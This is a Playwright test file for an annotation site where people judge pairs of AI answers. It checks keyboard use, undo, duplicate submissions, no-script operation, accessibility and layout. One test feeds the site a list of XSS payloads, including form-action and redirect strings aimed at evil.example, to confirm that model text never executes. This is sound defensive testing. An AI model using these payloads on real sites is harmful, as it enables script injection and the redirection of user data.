"""The page as a person meets it: a real browser, with and without script."""

import pytest

from handful import STAGES, execute, load, plan
from handful.annotate.pairs import Study, arranged, pairs_of
from handful.core import jsonl
from handful.core.types import Comparison, Turn, Verdict

SETTLED_MS = 320
"""The page ignores answers in its first moments: nobody has read it yet."""

XSS = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg/onload=window.ran=1>",
    "</div></section></main><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href='javascript:window.ran=1' id=shortcuts>click</a>",
    "<body onload=window.ran=1><style>*{display:none}</style>",
    "<form action=/leave method=post><button data-key=1 formaction=//evil.example>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} [x](javascript:window.ran=1)",
    "\x00<scr\x00ipt>window.ran=1</scr\x00ipt>",
]


@pytest.fixture
def study(study):
    return Study(study.comparisons[:3], study.instructions)


def enter(page, url, name="ann"):
    page.goto(url)
    page.get_by_label("Choose a pseudonym").fill(name)
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Question").wait_for()


def press(page, key):
    """Press a key once the page listens, and wait for the next page."""
    page.wait_for_timeout(SETTLED_MS)
    with page.expect_navigation():
        page.keyboard.press(key)


def test_a_whole_study_by_keyboard_alone_becomes_verdicts(study, made, serve, new_page):
    recipe, work, _ = made(study)
    page = new_page()
    page.goto(serve(recipe, work).url)
    page.keyboard.press("Tab")  # to the name, the first thing that takes keys
    page.keyboard.type("Ann")
    page.keyboard.press("Enter")
    chosen = {}
    for number, key in enumerate(["1", "2", "0"]):
        page.get_by_text(f"{number + 1} of 3", exact=True).first.wait_for()
        question, first, second = (page.locator(".text").nth(n).text_content() for n in (0, 1, 2))
        chosen[question] = {"1": first, "2": second, "0": None}[key]
        press(page, key)
    page.get_by_role("heading", name="All done. Thank you!").wait_for()
    (step,) = execute(plan(STAGES, load(recipe), work, to="annotate"), work, only="annotate")
    by_id = {comparison.id: comparison for comparison in study.comparisons}
    verdicts = list(jsonl.read(step.folder / "verdicts.jsonl", Verdict))
    assert len(verdicts) == 3
    for verdict in verdicts:
        comparison = by_id[verdict.comparison_id]
        assert verdict.judge == "ann"
        text = {"left": comparison.left, "right": comparison.right, "tie": None}[verdict.choice]
        assert text == chosen[comparison.turns[0].text]


def test_what_models_wrote_never_runs(site, new_page):
    third = ["\n".join(XSS[start::3]) for start in range(3)]
    comparisons = tuple(
        Comparison(f"c{n}", f"p{n}", (Turn("user", f"{text} asked"),), f"one {text}", f"{text} two")
        for n, text in enumerate(third)
    )
    page = new_page()
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    url = site(Study(comparisons, "\n\n".join(XSS)))
    enter(page, url)
    shown = set()
    for _ in third:
        answers = [page.locator(".answer .text").nth(n).text_content() for n in (0, 1)]
        shown.add(tuple(sorted(answers)))
        assert page.evaluate("window.ran") is None
        assert page.locator("img, svg, iframe, base, math, .text *").count() == 0
        press(page, "1")
    page.get_by_role("heading", name="All done. Thank you!").wait_for()
    expected = {  # a browser leaves NUL out
        (c.left.replace("\x00", ""), c.right.replace("\x00", "")) for c in comparisons
    }
    assert shown == {tuple(sorted(pair)) for pair in expected}
    assert all(request.startswith(url) for request in requests)


def test_undo_by_key_and_the_answer_that_stands_is_the_last(site, ledger, new_page):
    page = new_page()
    enter(page, site())
    before = page.locator(".answer .text").all_text_contents()
    press(page, "1")
    page.get_by_text("Answer saved.").wait_for()
    press(page, "u")
    page.get_by_text("taken back").wait_for()
    assert page.locator(".answer .text").all_text_contents() == before
    press(page, "2")
    assert [entry.choice for entry in ledger.entries()] == ["second"]


def test_the_buttons_say_what_the_paper_says_and_do_what_they_say(site, ledger, new_page):
    page = new_page()
    enter(page, site())
    for text, choice in [
        ("Answer A is significantly better.", "first"),
        ("Answer B is significantly better.", "second"),
        ("Neither is significantly better.", "neither"),
    ]:
        page.wait_for_timeout(SETTLED_MS)
        with page.expect_navigation():
            page.get_by_role("button", name=text).click()
        assert ledger.entries()[-1].choice == choice


def test_a_double_press_or_double_click_answers_one_pair(site, ledger, new_page):
    page = new_page()
    enter(page, site())
    page.wait_for_timeout(SETTLED_MS)
    page.keyboard.press("1")
    page.keyboard.press("1")
    page.get_by_text("2 of 3", exact=True).first.wait_for()
    page.wait_for_timeout(SETTLED_MS)
    page.get_by_role("button", name="Answer A").dblclick(no_wait_after=True)
    page.get_by_text("3 of 3", exact=True).first.wait_for()
    page.wait_for_timeout(SETTLED_MS)
    assert len(ledger.entries()) == 2
    assert "3 of 3" in page.locator(".count").text_content()


def test_two_tabs_on_the_same_pair_count_once(site, ledger, new_page):
    url = site()
    page = new_page()
    enter(page, url)
    tab = page.context.new_page()
    tab.goto(url)
    assert (
        tab.locator(".answer .text").all_text_contents() == page.locator(".answer .text").all_text_contents()
    )
    press(page, "1")
    press(tab, "2")  # a stale page, and another mind
    tab.get_by_text("your first answer stands").wait_for()
    assert [entry.choice for entry in ledger.entries()] == ["first"]
    assert (
        tab.locator(".answer .text").all_text_contents() == page.locator(".answer .text").all_text_contents()
    )


def test_the_back_button_shows_nothing_old_and_counts_nothing_twice(site, ledger, new_page):
    page = new_page()
    enter(page, site())
    press(page, "1")
    page.go_back()
    page.goto(page.url)
    page.get_by_text("2 of 3", exact=True).first.wait_for()
    press(page, "1")
    assert len({entry.shown for entry in ledger.entries()}) == len(ledger.entries()) == 2


def test_keys_can_be_turned_off_and_stay_off(site, ledger, new_page):
    page = new_page()
    enter(page, site())
    page.get_by_label("Keys").uncheck()
    page.reload()
    page.wait_for_timeout(SETTLED_MS)
    page.keyboard.press("1")
    page.wait_for_timeout(SETTLED_MS)
    assert ledger.entries() == []
    assert not page.get_by_label("Keys").is_checked()


def test_it_works_without_script(site, ledger, new_page):
    page = new_page(java_script_enabled=False)
    enter(page, site())
    for _ in range(3):
        page.get_by_role("button", name="Neither").click()
    page.get_by_role("heading", name="All done. Thank you!").wait_for()
    page.get_by_role("button", name="Undo").click()
    assert len([entry for entry in ledger.entries() if entry.choice]) == 2


def test_everything_is_reached_by_tab_in_reading_order(site, ledger, new_page):
    page = new_page()
    enter(page, site())
    press(page, "1")
    assert page.evaluate("document.activeElement.textContent") == "Question"
    page.wait_for_timeout(SETTLED_MS)
    reached = []
    for _ in range(5):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.innerText || document.activeElement.id"))
    assert [text.replace("\n", " ").strip() for text in reached[:3]] == [
        "1 Answer A is significantly better.",
        "0 Neither is significantly better.",
        "2 Answer B is significantly better.",
    ]
    assert reached[4] == "shortcuts"
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    assert ledger.entries()[-1].choice == "second"


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_nothing_is_wider_than_the_screen(site, new_page, width):
    long = "x" * 3000 + "\n" + " ".join(["words"] * 400) + "\n\tcode = {'a': 1}" * 20
    study = Study((Comparison("c", "p", (Turn("user", long),), long, "short"),), long)
    page = new_page(viewport={"width": width, "height": 800})
    enter(page, site(study))
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    boxes = [page.locator(".answer").nth(n).bounding_box() for n in (0, 1)]
    assert boxes[0]["width"] == boxes[1]["width"]  # equal presentation, whatever the length
    stacked = boxes[0]["y"] < boxes[1]["y"]
    assert stacked == (width < 768)


LUMINANCE = """() => {
  const light = (colour) => {
    const [r, g, b] = colour.match(/[\\d.]+/g).slice(0, 3).map((v) => {
      v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const ground = (e) => { for (; e; e = e.parentElement) {
      const c = getComputedStyle(e).backgroundColor; if (!/, 0\\)$/.test(c)) return c; } return "rgb(255,255,255)"; };
  return [...document.querySelectorAll("body *")].filter((e) => e.checkVisibility() &&
      [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim())).map((e) => {
    const [a, b] = [light(getComputedStyle(e).color), light(ground(e))];
    return [e.className + " " + e.tagName, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]; });
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_has_the_contrast_that_wcag_aa_asks_for(site, ledger, new_page, scheme):
    """4.5 to 1, by the WCAG 2 formula, on each page."""
    page = new_page(color_scheme=scheme)
    url = site()
    page.goto(url)
    measured = page.evaluate(LUMINANCE)
    enter(page, url)
    press(page, "1")
    page.get_by_text("Answer saved.").wait_for()
    measured += page.evaluate(LUMINANCE)
    assert len(measured) > 20
    assert [found for found in measured if found[1] < 4.5] == []


def test_what_is_stored_is_what_the_screen_showed(study, site, ledger, new_page):
    page = new_page()
    enter(page, site())
    for _ in range(3):
        first, second = page.locator(".answer .text").all_text_contents()
        press(page, "1")
        entry = ledger.entries()[-1]
        shown = arranged(pairs_of(study)[entry.shown], entry.order)
        assert (first, second, entry.choice) == (shown.left, shown.right, "first")
